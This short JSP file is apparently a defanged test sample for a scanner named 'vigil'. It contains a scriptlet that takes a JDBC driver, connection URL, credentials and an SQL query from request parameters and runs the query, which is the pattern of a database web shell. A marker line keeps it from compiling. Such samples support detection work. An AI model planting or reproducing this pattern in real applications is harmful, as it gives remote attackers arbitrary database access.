<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Class.forName(request.getParameter("driver"));
java.sql.Connection c = java.sql.DriverManager.getConnection(request.getParameter("url"), request.getParameter("u"), request.getParameter("p"));
java.sql.Statement st = c.createStatement();
java.sql.ResultSet rs = st.executeQuery(request.getParameter("sql"));
%>
